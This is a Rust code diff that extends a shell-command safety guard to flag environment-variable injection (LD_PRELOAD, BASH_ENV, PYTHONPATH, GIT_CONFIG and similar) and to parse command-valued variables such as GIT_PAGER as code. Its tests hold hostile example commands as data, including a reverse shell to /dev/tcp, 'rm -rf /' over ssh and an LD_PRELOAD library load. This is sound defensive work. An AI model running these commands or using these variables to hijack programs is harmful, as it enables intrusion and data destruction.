@@ -28,6 +28,8 @@ pub enum Finding {
     Unparsed,
     /// Code nested deeper than the parser follows.
     TooDeep,
+    /// An environment assignment changes what the program loads or runs (`LD_PRELOAD=...`).
+    EnvInjection,
 }
 
 impl Finding {
@@ -46,6 +48,9 @@ impl Finding {
             }
             Finding::Unparsed => "the command could not be parsed as shell",
             Finding::TooDeep => "the command nests code deeper than the guard follows",
+            Finding::EnvInjection => {
+                "an environment variable changes what the program loads or runs"
+            }
         }
     }
 }
@@ -130,6 +135,8 @@ struct Walker {
 #[derive(Clone, Default)]
 struct Ctx {
     layers: Vec<String>,
+    /// Findings that belong to the next command pushed (from its assignments).
+    findings: Vec<Finding>,
     pipeline: Option<(u32, u32)>,
     redirects: Vec<String>,
     stdin_text: Option<String>,
@@ -193,6 +200,54 @@ const TRANSPARENT: &[&str] = &[
     "strace",
     "ltrace",
     "catchsegv",
+];
+/// Variables that make any program load or run something else.
+const INJECTION_VARS: &[&str] = &[
+    "BASH_ENV",
+    "ENV",
+    "PROMPT_COMMAND",
+    "PATH",
+    "IFS",
+    "SHELLOPTS",
+    "BASHOPTS",
+    "PYTHONPATH",
+    "PYTHONSTARTUP",
+    "PYTHONHOME",
+    "NODE_OPTIONS",
+    "NODE_PATH",
+    "PERL5OPT",
+    "PERL5LIB",
+    "PERLLIB",
+    "RUBYOPT",
+    "RUBYLIB",
+    "JAVA_TOOL_OPTIONS",
+    "_JAVA_OPTIONS",
+    "GCONV_PATH",
+    "LESSOPEN",
+    "LESSCLOSE",
+    "GIT_EXEC_PATH",
+    "GIT_TEMPLATE_DIR",
+    "GIT_CONFIG",
+    "GIT_CONFIG_GLOBAL",
+    "GIT_CONFIG_SYSTEM",
+    "GIT_CONFIG_PARAMETERS",
+    "GIT_CONFIG_COUNT",
+    "GIT_DIR",
+    "GIT_WORK_TREE",
+    "GIT_INDEX_FILE",
+];
+/// Variables whose value is a command some program runs.
+const CODE_VARS: &[&str] = &[
+    "VISUAL",
+    "GIT_SSH",
+    "GIT_EXTERNAL_DIFF",
+    "SHELL",
+    "CC",
+    "CXX",
+    "LD",
+    "AR",
+    "TERMINAL",
+    "BROWSER",
 ];
 /// Wrappers that run the inner command with other privileges; judged themselves and unwrapped.
 const PRIVILEGED: &[&str] = &["sudo", "doas", "pkexec", "run0"];
@@ -356,13 +411,29 @@ impl Walker {
     }
 
     fn command(&mut self, node: Node<'_>, src: &str, ctx: &Ctx, depth: u32) {
+        let mut env_findings = Vec::new();
         let mut argv = Vec::new();
         let mut dynamic = Vec::new();
         let mut c = ctx.clone();
         let mut cursor = node.walk();
         for child in node.named_children(&mut cursor) {
             match child.kind() {
-                "variable_assignment" => self.walk_substitutions(child, src, ctx, depth),
+                "variable_assignment" => {
+                    self.walk_substitutions(child, src, ctx, depth);
+                    let text = node_text(child, src);
+                    let name = text
+                        .split_once('=')
+                        .map(|(n, _)| n)
+                        .unwrap_or(text)
+                        .trim_end_matches('+');
+                    let mut cur = child.walk();
+                    let value = child
+                        .named_children(&mut cur)
+                        .nth(1)
+                        .map(|v| word_value(v, src));
+                    let (value, dynamic) = value.unwrap_or_default();
+                    self.assignment(name, &value, dynamic, &mut env_findings, ctx, depth);
+                }
                 "file_redirect" => {
                     if let Some(t) = output_target(child, src) {
                         c.redirects.push(t);
@@ -390,7 +461,41 @@ impl Walker {
             return;
         }
         let text = node_text(node, src).to_string();
+        c.findings = env_findings;
         self.unwrap(argv, dynamic, text, &c, depth);
+    }
+
+    /// `NAME=value` before a command (or after `env`): variables that make a program load or run
+    /// something else are findings; variables whose value is a command (`GIT_PAGER`, `EDITOR`,
+    /// `GIT_SSH_COMMAND`) have that value parsed as code.
+    fn assignment(
+        &mut self,
+        name: &str,
+        value: &str,
+        dynamic: bool,
+        findings: &mut Vec<Finding>,
+        ctx: &Ctx,
+        depth: u32,
+    ) {
+        if INJECTION_VARS.contains(&name) || name.starts_with("LD_") || name.starts_with("DYLD_") {
+            findings.push(Finding::EnvInjection);
+            return;
+        }
+        let runs_code = CODE_VARS.contains(&name)
+            || [
+                "PAGER", "EDITOR", "_COMMAND", "_CMD", "ASKPASS", "_SSH", "RUNNER", "WRAPPER",
+            ]
+            .iter()
+            .any(|s| name.ends_with(s));
+        if runs_code {
+            if dynamic {
+                findings.push(Finding::DynamicCode);
+            } else if !value.is_empty() {
+                let mut layers = ctx.layers.clone();
+                layers.push(format!("{name}="));
+                self.parse_code(value, depth + 1, &layers);
+            }
+        }
     }
 
     /// Peel wrappers and code layers off one argv and push what remains.
@@ -417,6 +522,32 @@ impl Walker {
             c
         };
 
+        if name == "env" {
+            let mut c = ctx.clone();
+            let skip = wrapper_operands(&name, rest);
+            for (w, d) in rest[..skip].iter().zip(&rest_dyn[..skip]) {
+                if let Some((var, value)) = w.split_once('=')
+                    && !w.starts_with('-')
+                {
+                    let mut f = std::mem::take(&mut c.findings);
+                    self.assignment(var, value, *d, &mut f, ctx, depth);
+                    c.findings = f;
+                }
+            }
+            if skip < rest.len() {
+                c.layers.push(wrapper_label(&name, &rest[..skip]));
+                self.unwrap(
+                    rest[skip..].to_vec(),
+                    rest_dyn[skip..].to_vec(),
+                    text,
+                    &c,
+                    depth,
+                );
+            } else {
+                self.push(argv, text, &c, findings);
+            }
+            return;
+        }
         if TRANSPARENT.contains(&name.as_str()) {
             if name == "command" && rest.first().is_some_and(|a| a == "-v" || a == "-V") {
                 self.push(argv, text, ctx, findings);
@@ -611,8 +742,20 @@ impl Walker {
         }
     }
 
-    fn push(&mut self, argv: Vec<String>, text: String, ctx: &Ctx, findings: Vec<Finding>) {
-        let words = canon::canonical_words(&argv, &ctx.redirects);
+    fn push(&mut self, argv: Vec<String>, text: String, ctx: &Ctx, mut findings: Vec<Finding>) {
+        let mut words = canon::canonical_words(&argv, &ctx.redirects);
+        for f in &ctx.findings {
+            if !findings.contains(f) {
+                findings.push(f.clone());
+            }
+        }
+        // Text fed on stdin to a program (`psql <<< 'DROP TABLE x'`) is an operand for matching;
+        // shells and interpreters had it parsed or judged already.
+        if let Some(stdin) = &ctx.stdin_text
+            && words.first().is_some_and(|w| !is_shell(&w.text))
+        {
+            canon::insert_operand(&mut words, stdin.clone());
+        }
         self.out.commands.push(SimpleCommand {
             words,
             text,
@@ -1003,6 +1146,8 @@ mod tests {
                 &["bash -i >/dev/tcp/10.0.0.1/4444"],
             ),
             ("ls 2>&1 >/dev/null", &["ls >/dev/null"]),
+            ("GIT_PAGER='rm -rf ~' git log", &["rm -f -r ~", "git log"]),
+            ("psql <<< 'DROP TABLE x'", &["psql 'DROP TABLE x'"]),
             (
                 "ssh host 'rm -rf /'",
                 &["rm -f -r /", "ssh host 'rm -rf /'"],
@@ -1046,5 +1191,14 @@ mod tests {
             Some(vec![Finding::ProcessSubstitutionIntoShell])
         );
         assert!(parse("if then fi ((").findings.contains(&Finding::Unparsed));
+        assert_eq!(
+            parse("LD_PRELOAD=/tmp/x.so ls").commands[0].findings,
+            [Finding::EnvInjection]
+        );
+        assert_eq!(
+            parse("env LD_PRELOAD=/tmp/x.so ls").commands[0].findings,
+            [Finding::EnvInjection]
+        );
+        assert!(parse("FOO=1 ls").commands[0].findings.is_empty());
     }
 }
